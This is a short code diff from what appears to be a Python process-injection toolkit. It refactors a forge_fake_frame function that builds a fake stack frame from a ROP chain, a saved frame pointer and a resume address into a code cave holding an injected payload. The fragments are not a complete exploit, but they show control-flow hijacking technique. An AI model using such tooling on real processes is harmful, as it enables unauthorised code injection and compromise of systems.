@@ -16,7 +16,7 @@ from dataclasses import dataclass
 from . import explorer
 from .memspace import AddressSpace, MemoryFault
 from .probe import NotWritableError, Prober
-from .gadgets import ChainWord, RopChain
+from .gadgets import ChainWord
 from .caves import CaveRegion
 
 
@@ -103,7 +103,7 @@ def locate_victim_frame(pm: explorer.PageMap, stack_ptr: int) -> VictimFrame:
 
 def forge_fake_frame(
     victim: VictimFrame,
-    chain: RopChain,
+    chain: tuple[ChainWord, ...],
     payload: bytes,
     cave: CaveRegion,
 ) -> FakeFrameImage:
@@ -115,9 +115,9 @@ def forge_fake_frame(
     address and execution resumes without running injected code.  Nothing
     is written here; the image is data until inject() plants it.
     """
-    words = [ChainWord(victim.saved_rbp, "saved-rbp"), *chain.words]
+    words = [ChainWord(victim.saved_rbp, "saved-rbp"), *chain]
     if payload:
-        payload_addr = cave.start + payload_offset(len(chain.words))
+        payload_addr = cave.start + payload_offset(len(chain))
         words.append(ChainWord(payload_addr, "resume-address"))
         total = (payload_addr - cave.start) + len(payload)
     else:
